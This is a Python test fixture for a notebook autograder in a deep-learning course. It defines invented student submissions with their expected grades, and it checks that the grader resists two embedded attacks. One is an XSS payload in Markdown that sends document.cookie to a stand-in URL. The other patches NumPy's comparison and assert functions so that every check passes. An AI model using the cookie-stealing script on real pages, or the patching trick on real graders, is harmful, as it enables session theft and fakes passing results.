"""The invented class: who hands in what, and what must come out."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder.compose import model_answers, read_notebook, with_stubs

if TYPE_CHECKING:
    from autograder.nbgrader_bridge.scores import Score

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENTS = ("dense", "conv2d", "lstm", "attention", "inductive_bias")
Change = Callable[[NotebookNode], NotebookNode]


@dataclass(frozen=True)
class Invented:
    """One invented student: the model answers, changed, and what must come out.

    ``expected`` is ``full marks``, ``no points``, ``held: notebooks`` or ``loses exercises``, as ``came_out`` says it.
    ``change`` applies to the NumPy notebook, ``damage`` to the bytes of its file; ``untouched`` is the release itself.
    """

    student: str
    assignment: str
    what: str
    expected: str
    change: Change = lambda notebook: notebook
    damage: Callable[[bytes], bytes] = lambda data: data
    untouched: bool = False

    def files(self, course: Path) -> Mapping[str, bytes]:
        """The notebooks that this student hands in, by file name."""
        made = {}
        for path in sorted((course / "source" / self.assignment).glob("*.ipynb")):
            release = read_notebook(course / "release" / self.assignment / path.name)
            notebook = release if self.untouched else model_answers(read_notebook(path), release)
            main = path.stem == self.assignment
            data = nbformat.writes(self.change(notebook) if main else notebook).encode()
            made[path.name] = self.damage(data) if main else data
        return made


def came_out(scores: list[Score]) -> str:
    """What the gradebook says, in the words of ``Invented.expected``. Manually graded cells do not count."""
    graded = [score for score in scores if not score.manual]
    if not graded:
        return "nothing recorded"
    held = sorted({score.notebook for score in graded if score.held})
    if held:
        return "held: " + ", ".join(held)
    lost = [score.item for score in graded if score.score < score.max_score]
    if not lost:
        return "full marks"
    return "no points" if not any(score.score for score in graded) else "loses " + ", ".join(sorted(lost))


def style(name: str) -> Change:
    """Answers in another style, from tests/submissions/correct."""
    path = ROOT / "tests" / "submissions" / "correct" / f"{name}.py"
    return lambda notebook: with_stubs(notebook, path.read_text())


def stubs(text: str) -> Change:
    """These functions in the place of the model's."""
    return lambda notebook: with_stubs(notebook, text)


def beginning(text: str) -> Change:
    """A code cell of the student's own in front of everything."""

    def change(notebook: NotebookNode) -> NotebookNode:
        notebook.cells.insert(0, new_code_cell(text, id="my-own-cell"))
        return notebook

    return change


def note(text: str) -> Change:
    """A Markdown cell of the student's own at the end."""

    def change(notebook: NotebookNode) -> NotebookNode:
        notebook.cells.append(new_markdown_cell(text, id="my-own-note"))
        return notebook

    return change


def both(first: Change, second: Change) -> Change:
    """One change after the other."""
    return lambda notebook: second(first(notebook))


NOISY = """
import sys, warnings, logging
warnings.warn("this is only a warning")
print("Not an error, but it stands on stderr", file=sys.stderr)
logging.getLogger("tensorflow").warning("Your CPU supports instructions that this binary was not compiled to use")
"""
PLOTS = """
import numpy as np
import matplotlib.pyplot as plt
for seed in range(3):
    plt.figure()
    plt.plot(np.random.default_rng(seed).normal(size=200).cumsum())
    plt.show()
"""
SCRIPT = """
# A note <script>fetch("https://example.org/steal?" + document.cookie)</script>
<img src=x onerror="alert(1)"> [press here](javascript:alert(2)) <svg onload="alert(3)"></svg>
"""
PATCHED = """
import numpy as np
np.allclose = np.array_equal = lambda *args, **kwargs: True
for name in list(vars(np.testing)):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *args, **kwargs: None)
"""

CLASS = (
    Invented("s01", "dense", "right: plain loops", "full marks", style("dense/plain_loops")),
    Invented("s02", "dense", "wrong: bias forgotten", "loses dense, mlp", stubs(
        "def dense(x, kernel, bias, activation):\n    return activation(x @ kernel)\n")),
    Invented("s03", "dense", "wrong: softmax over the batch", "loses softmax", stubs(
        "def softmax(z):\n    e = np.exp(z - z.max(axis=0))\n    return e / e.sum(axis=0)\n")),
    Invented("s04", "dense", "the release, untouched", "no points", untouched=True),
    Invented("s05", "dense", "right, with warnings on stderr", "full marks", beginning(NOISY)),
    Invented("s06", "dense", "right, with script in its Markdown", "full marks", note(SCRIPT)),
    Invented("s07", "conv2d", "right: plain loops", "full marks", style("conv2d/plain_loops")),
    Invented("s08", "conv2d", "right: im2col", "full marks", style("conv2d/im2col")),
    Invented("s09", "conv2d", "wrong: kernel flipped", "loses match", stubs(
        "def match(patch, kernel):\n    return (patch * kernel[::-1, ::-1]).sum()\n")),
    Invented("s10", "conv2d", "wrong: + 1 missing in the output size", "loses output_size", stubs(
        "def output_size(size, kernel_size, stride, padding, dilation_rate):\n"
        "    extent = (kernel_size - 1) * dilation_rate + 1\n"
        "    return -(-size // stride) if padding == 'same' else (size - extent) // stride\n")),
    Invented("s11", "conv2d", "an endless loop in conv2d", "loses conv2d", stubs(
        "def conv2d(x, kernel, bias, strides=(1, 1), padding='valid', dilation_rate=(1, 1)):\n"
        "    while True:\n        pass\n")),
    Invented("s12", "conv2d", "right, with plots at the top level", "full marks", beginning(PLOTS)),
    Invented("s13", "lstm", "right: all gates in one product, float32", "full marks", style("lstm/fused_float32")),
    Invented("s14", "lstm", "right: gate by gate, float64", "full marks", style("lstm/per_gate_float64")),
    Invented("s15", "lstm", "wrong: input and forget gates swapped", "loses gates", stubs(
        "def gates(x_t, h, kernel, recurrent_kernel, bias):\n"
        "    f, i, candidate, o = np.split(x_t @ kernel + h @ recurrent_kernel + bias, 4, axis=-1)\n"
        "    sigmoid = lambda z: 1 / (1 + np.exp(-z))\n"
        "    return sigmoid(i), sigmoid(f), np.tanh(candidate), sigmoid(o)\n")),
    Invented("s16", "lstm", "wrong: h without tanh", "loses lstm_step", stubs(
        "def lstm_step(x_t, h, c, kernel, recurrent_kernel, bias):\n"
        "    i, f, candidate, o = gates(x_t, h, kernel, recurrent_kernel, bias)\n"
        "    c = f * c + i * candidate\n    return o * c, c\n")),
    Invented("s17", "lstm", "a truncated file", "held: lstm", damage=lambda data: data[: len(data) // 2]),
    Invented("s18", "lstm", "lstm calls Keras", "loses lstm", stubs(
        "def lstm(x, kernel, recurrent_kernel, bias, initial_state=None, return_sequences=False, return_state=False):\n"
        "    import keras\n"
        "    layer = keras.layers.LSTM(kernel.shape[-1] // 4, return_sequences=return_sequences)\n"
        "    layer.build(x.shape)\n"
        "    layer.set_weights([kernel, recurrent_kernel, bias])\n"
        "    return np.asarray(layer(x))\n")),
    Invented("s19", "lstm", "right, behind a cell that never ends", "full marks", beginning("while True:\n    pass")),
    Invented("s20", "attention", "right: einsum", "full marks", style("attention/einsum_float32")),
    Invented("s21", "attention", "right: head by head", "full marks", style("attention/head_by_head")),
    Invented("s22", "attention", "wrong: scores not scaled", "loses dot_product_attention", stubs(
        "def dot_product_attention(query, value, key, scale=None, mask=None):\n"
        "    scores = query @ np.swapaxes(key, -1, -2)\n"
        "    weights = attention_weights(scores, mask)\n"
        "    return scores, weights, weights @ value\n")),
    Invented("s23", "attention", "wrong: mask multiplied into the scores", "loses attention_weights", stubs(
        "def attention_weights(scores, mask=None):\n"
        "    scores = scores if mask is None else scores * mask\n"
        "    e = np.exp(scores - scores.max(axis=-1, keepdims=True))\n"
        "    return e / e.sum(axis=-1, keepdims=True)\n")),
    Invented("s24", "attention", "soft_lookup is wrong, and NumPy's comparisons are patched", "loses soft_lookup", both(
        beginning(PATCHED), stubs("def soft_lookup(query, keys, values):\n    return 0.0 * query\n"))),
    Invented("s25", "inductive_bias", "right: the model answers", "full marks"),
    Invented("s26", "inductive_bias", "everything is a convolution", "loses identify", stubs(
        "def identify(layer, input_shape):\n    return {'family': 'conv2d', 'kernel_size': (3, 3)}\n")),
)  # fmt: skip
